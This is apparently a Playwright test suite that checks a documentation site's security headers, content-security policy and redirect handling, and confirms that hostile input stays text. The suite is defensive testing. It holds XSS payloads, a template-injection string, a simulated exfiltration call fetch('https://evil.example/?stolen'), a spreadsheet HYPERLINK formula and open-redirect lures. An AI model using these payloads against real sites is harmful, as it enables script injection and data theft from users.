/** What the site's own policy and headers keep out, and that hostile input stays text. */
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import type {Page} from '@playwright/test';
import {BUILD_DIR} from '../../scripts/lib/build';
import {LURES} from '../../scripts/lib/load/addresses';
import {FACET_NAMES} from '../../src/components/TemplateGallery/choice';
import {STORED} from '../../src/config/storage';
import {ALL_PAGES} from '../../src/config/env';
import {PAGE_KINDS} from '../support/pages';
import {expect, hydrated, open, test} from '../support/site';
import {stubSocial} from '../support/thirdParties';

const LIST = '/api/clients/tags/list-tags/';

/** Texts that run something where they are taken for HTML, an address or code. Each would set `window.hurt`. */
const HOSTILE = [
  '<img src=x onerror="window.hurt=1">',
  '"><script>window.hurt=1</script>',
  "'-(window.hurt=1)-'",
  'javascript:window.hurt=1',
  '<svg/onload=window.hurt=1>',
  '{{constructor.constructor("window.hurt=1")()}}',
  '</script><script>window.hurt=1</script>',
  '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
] as const;

const isHurt = (page: Page) => page.evaluate(() => 'hurt' in window);

/** Elements that only hostile text can have made. */
const planted = (page: Page) =>
  page.locator('img[onerror], svg[onload], iframe[srcdoc], img[src="x"], a[href^="javascript:"]');

async function expectUnhurt(page: Page, what: string): Promise<void> {
  expect(await isHurt(page), what).toBe(false);
  await expect(planted(page), what).toHaveCount(0);
}

test.beforeEach(async ({page}) => {
  await stubSocial(page);
});

test.describe('every answer', () => {
  for (const address of [
    '/',
    '/docs/',
    '/nothing/',
    '/assets/nothing.js',
    '/openapi/clients.json',
    '/problems/conflict_in_use/',
  ])
    test(`has the headers: ${address}`, async ({request}) => {
      const headers = (await request.get(address)).headers();
      const policy = headers['content-security-policy'] ?? '';
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("frame-ancestors 'none'");
      expect(policy).not.toMatch(/script-src[^;]*'unsafe-/);
      expect(policy).toContain("require-trusted-types-for 'script'");
      expect(headers['strict-transport-security']).toMatch(/max-age=\d{8}/);
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
      expect(headers['permissions-policy']).toContain('camera=()');
      expect(headers['cross-origin-opener-policy']).toBe('same-origin');
    });

  test('redirects keep to this site and keep the headers', async ({baseURL}) => {
    const {hostname, port} = new URL(baseURL ?? '');
    // Sent as they are: a browser would tidy these addresses up first.
    const get = (path: string): Promise<http.IncomingMessage> =>
      new Promise((resolve, reject) => {
        http
          .get({hostname, port, path}, (response) => {
            response.resume();
            resolve(response);
          })
          .on('error', reject);
      });
    for (const address of ['/docs/index.html', '/docs', ...LURES]) {
      const {headers} = await get(address);
      if (headers.location !== undefined) expect(headers.location, address).toMatch(/^\/(?![/\\])/);
      expect(headers['content-security-policy'], address).toBeDefined();
    }
  });
});

test('every page carries its policy before its first script, for hosts that send no headers', () => {
  const pages = fs.readdirSync(BUILD_DIR, {recursive: true, encoding: 'utf8'}).filter((file) => file.endsWith('.html'));
  expect(pages.length).toBeGreaterThan(800);
  const bare = pages.filter((file) => {
    const html = fs.readFileSync(path.join(BUILD_DIR, file), 'utf8');
    const policy = html.indexOf('<meta http-equiv="Content-Security-Policy"');
    const script = html.indexOf('<script');
    return policy < 0 || (script >= 0 && script < policy);
  });
  expect(bare).toEqual([]);
});

/** The two that a hole in the policy would be used for; `npm run audit` tries all. */
const DAILY_CASES = new Set(['an inline script', 'a call to another host']);

test.describe('the policy refuses', () => {
  const cases = {
    'an inline script': () => {
      const script = document.createElement('script');
      script.type = 'text/javascript';
      script.append('window.hurt = 1');
      document.body.append(script);
    },
    'a handler in an attribute': () => {
      const image = document.createElement('img');
      try {
        image.setAttribute('onerror', 'window.hurt = 1');
      } catch {
        // Trusted Types throw.
      }
      image.src = 'data:,';
      document.body.append(image);
    },
    'text as code': () => {
      try {
        // oxlint-disable-next-line typescript/no-implied-eval -- what must not work
        window.setTimeout('window.hurt = 1');
      } catch {
        // Trusted Types throw.
      }
    },
    'a script of another host': () => {
      const script = document.createElement('script');
      try {
        script.src = 'https://evil.example/x.js';
      } catch {
        // Trusted Types throw.
      }
      document.body.append(script);
    },
    'a frame': () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
    'a call to another host': () => {
      void fetch('https://evil.example/?stolen').catch(() => undefined);
    },
  } as const;
  for (const [what, act] of Object.entries(cases))
    test(what, {tag: DAILY_CASES.has(what) ? [] : '@slow'}, async ({page, violations}) => {
      const asked: string[] = [];
      page.on('request', (request) => {
        if (request.url().includes('evil.example')) asked.push(request.url());
      });
      await open(page, '/docs/');
      await page.evaluate(act);
      await expect.poll(() => violations.length).toBeGreaterThan(0);
      violations.length = 0;
      expect(await isHurt(page)).toBe(false);
      expect(asked).toEqual([]);
    });
});

const READS_ADDRESS: readonly string[] = ['home', 'docs page', 'operation', 'search', 'gallery', 'changelog'];

test.describe('hostile input stays text', () => {
  test('in the search, by address and by typing', async ({page}) => {
    test.setTimeout(120_000);
    const texts = HOSTILE.slice(0, ALL_PAGES ? HOSTILE.length : 2);
    for (const text of texts) {
      await page.goto(`/search/?q=${encodeURIComponent(text)}`);
      await hydrated(page);
      await expect(page.getByRole('main').locator('input[type="search"]').first()).toHaveValue(text);
      await expectUnhurt(page, text);
    }
    await open(page, '/docs/');
    await page.keyboard.press('/');
    for (const text of texts) {
      await page.getByRole('dialog').locator('input').fill(text);
      await expectUnhurt(page, text);
    }
  });

  test(
    'in what the theme takes from an address: no attribute of the document but a known mode',
    {tag: '@slow'},
    async ({page}) => {
      const attributes = () =>
        page.evaluate(() => Object.fromEntries([...document.documentElement.attributes].map((a) => [a.name, a.value])));
      await open(page, '/docs/');
      const usual = await attributes();
      await open(
        page,
        '/docs/?docusaurus-theme=evil&docusaurus-data-theme=evil&docusaurus-data-privacy-choices=on&docusaurus-data-x=1',
      );
      expect(await attributes()).toEqual(usual);
      await expect(page.getByRole('button', {name: 'Privacy choices'})).toBeHidden();
      await open(page, '/docs/?docusaurus-theme=light');
      await expect(page.locator('html')).toHaveAttribute('data-theme', 'light');
    },
  );

  test('in hashes and query strings of every kind of page', {tag: '@slow'}, async ({page}) => {
    test.setTimeout(240_000);
    // Every day those that read their address.
    const kinds = Object.entries(PAGE_KINDS).filter(([kind]) => ALL_PAGES || READS_ADDRESS.includes(kind));
    for (const [at, [kind, address]] of kinds.entries()) {
      const text = encodeURIComponent(HOSTILE[at % HOSTILE.length] ?? '');
      await page.goto(
        `${address}?q=${text}&docusaurus-theme=${text}&docusaurus-data-x=${text}&tab=${text}&next=//evil.example#${text}`,
      );
      await hydrated(page);
      await expectUnhurt(page, kind);
      expect(new URL(page.url()).host, kind).toMatch(/^localhost/);
    }
  });

  test('in the filters of every page that has some', {tag: '@slow'}, async ({page}) => {
    test.setTimeout(120_000);
    const names = {
      '/search/': ['section', 'audience', 'kind', 'page', 'ask'],
      '/templates/': FACET_NAMES,
      '/blog/': ['tag', 'year', 'kind', 'q'],
    };
    for (const [address, keys] of Object.entries(names))
      for (const text of HOSTILE.slice(0, ALL_PAGES ? 4 : 1)) {
        const query = new URLSearchParams([['q', 'tag'], ...keys.map((key): [string, string] => [key, text])]);
        await page.goto(`${address}?${query.toString()}`);
        await hydrated(page);
        await expect(page.getByRole('heading', {level: 1})).toBeVisible();
        await expectUnhurt(page, `${address} ${text}`);
      }
  });

  test('in files for the workbench: names, columns and cells', {tag: '@slow'}, async ({page, faults}) => {
    await open(page, '/templates/supplier-catalogue-uploader/');
    await page.getByRole('button', {name: /workbench/i}).click();
    const bench = page.getByRole('region', {name: 'Catalogue-file workbench'});
    await expect(bench).toBeVisible();
    const quoted = HOSTILE.map((text) => `"${text.replaceAll('"', '""')}"`);
    // Spreadsheets run cells that begin so, and prototypes have these names.
    const cells = [...quoted, '"=HYPERLINK(""https://evil.example"")"', '__proto__', 'constructor'];
    const files = [
      ['<img src=x onerror=window.hurt=1>.csv', `product_identifier,sku,type\n${cells.slice(0, 3).join(',')}\n`],
      ['columns.csv', `${cells.join(',')}\n${cells.map(() => '1').join(',')}\n`],
      ['cells.csv', `product_identifier,sku,type\n${cells.map((cell) => `${cell},${cell},${cell}`).join('\n')}\n`],
      ['book.xlsx', HOSTILE.join('\n')],
    ] as const;
    for (const [name, text] of files) {
      await bench
        .getByLabel(/CSV or XLSX file|Another file/)
        .setInputFiles({name, mimeType: 'text/csv', buffer: Buffer.from(text)});
      // What is no spreadsheet is told, without its name.
      await expect(bench.getByText(name.endsWith('.xlsx') ? /no CSV or XLSX file/ : name).first()).toBeVisible();
      await expectUnhurt(page, name);
    }
    expect(faults).toEqual([]);
  });

  const BAD_VALUES = [
    ...HOSTILE.slice(0, 4),
    '',
    'null',
    '{',
    '[[[',
    '{"__proto__":{"hurt":1}}',
    '[null,{"url":"javascript:window.hurt=1","title":"x","part":"y"}]',
    '{"recent":[{"url":"javascript:window.hurt=1","title":"x","part":"y"}],"favourite":[]}',
    '{"base":"javascript:window.hurt=1","key":"<b>"}',
    '1e999',
    'true',
  ];

  for (const value of BAD_VALUES)
    test(`in each stored entry: ${value || 'nothing'}`, {tag: '@slow'}, async ({page, faults}) => {
      await page.addInitScript(
        ([items, text]) => {
          for (const {key, prefix, where} of items) {
            if (where === 'cookie') continue;
            const store = where === 'local' ? localStorage : sessionStorage;
            for (const name of prefix ? [`${key}default`, `${key}language`, `${key}replenish-a-location`] : [key])
              store.setItem(name, text);
          }
        },
        [STORED, value] as const,
      );
      for (const address of ['/', LIST, '/docs/tutorial/', '/guides/journeys/replenish-a-location/']) {
        await page.goto(address);
        await hydrated(page);
        await expect(page.getByRole('heading', {level: 1})).toBeVisible();
        await expectUnhurt(page, address);
      }
      await page.goto(LIST);
      await hydrated(page);
      await page.getByRole('button', {name: 'Try it'}).click();
      await expect(page.getByRole('heading', {name: /^Try it/})).toBeVisible();
      await page.keyboard.press('Escape');
      await page
        .getByRole('button', {name: /^Search/})
        .first()
        .click();
      await expect(page.getByRole('dialog').locator('input')).toBeVisible();
      await expectUnhurt(page, 'search and console');
      expect(faults.filter((fault) => !/hurt/.test(fault))).toEqual([]);
    });

  test('in messages to the window', {tag: '@slow'}, async ({page, faults}) => {
    for (const address of ['/search/?q=tags', LIST, '/templates/supplier-catalogue-uploader/', '/docs/tutorial/']) {
      await open(page, address);
      // The last message has been delivered when one that is sent after it comes back.
      await page.evaluate(async (texts) => {
        for (const text of texts) {
          window.postMessage(text, '*');
          window.postMessage({type: text, kind: 'changed', id: 1, html: text, url: text}, '*');
        }
        await new Promise((resolve) => {
          window.addEventListener('message', ({data}) => data === 'last' && resolve(undefined));
          window.postMessage('last', '*');
        });
      }, HOSTILE);
      await expectUnhurt(page, address);
    }
    expect(faults).toEqual([]);
  });

  test('in answers of a server that the console calls', {tag: '@slow'}, async ({page}) => {
    test.setTimeout(120_000);
    const html = `<html><body>${HOSTILE.join('')}</body></html>`;
    const json = JSON.stringify(Object.fromEntries(HOSTILE.map((text) => [text, {id: text, items: [text]}])));
    for (const [contentType, body] of [
      ['text/html', html],
      ['application/json', json],
      ['text/javascript', 'window.hurt = 1'],
      ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hurt=1"/>'],
    ] as const) {
      await page.route('http://localhost:9/**', (route) =>
        route.fulfill({
          status: 200,
          headers: {
            'Content-Type': contentType,
            'Access-Control-Allow-Origin': '*',
            'Access-Control-Allow-Headers': '*, Authorization',
            'X-Odd': HOSTILE[0],
          },
          body,
        }),
      );
      await open(page, LIST);
      await page.getByRole('button', {name: 'Try it'}).click();
      await page.getByRole('radio', {name: 'Another server'}).check();
      await page.getByLabel('Base URL').fill('http://localhost:9');
      await page.getByLabel('Your key').fill('k');
      await page.getByRole('button', {name: /^Send/}).click();
      await expect(page.getByText('200 OK').first()).toBeVisible();
      await expectUnhurt(page, contentType);
    }
  });
});

test('the console says which policy keeps it from a server', {tag: '@slow'}, async ({page, violations}) => {
  await open(page, LIST);
  await page.getByRole('button', {name: 'Try it'}).click();
  await page.getByRole('radio', {name: 'Another server'}).check();
  await page.getByLabel('Base URL').fill('https://evil.example');
  await page.getByLabel('Your key').fill('k');
  await page.getByRole('button', {name: /^Send/}).click();
  await expect(page.getByText('This site may not call that server.', {exact: true})).toBeVisible();
  expect(violations.splice(0).join(' ')).toContain("Connecting to 'https://evil.example/v1/tags'");
});

test('no link leads a reader off the site unseen', {tag: '@slow'}, async ({context}) => {
  const hosts = new Set<string>();
  context.on('request', (request) => {
    if (request.isNavigationRequest()) hosts.add(new URL(request.url()).hostname);
  });
  // Addresses that only look like this site's own. Each in a page of its own: some lead on by themselves.
  for (const address of [
    '/problems/%2F%2Fevil.example/',
    '/problems/conflict_in_use/?url=//evil.example',
    '/docs/..%2F..%2F%2Fevil.example/',
  ]) {
    const other = await context.newPage();
    await other.goto(address);
    // A page that leads on has no heading.
    await expect(other.getByRole('heading', {level: 1})).toBeVisible();
    expect([...hosts], address).toEqual(['localhost']);
    await other.close();
  }
});
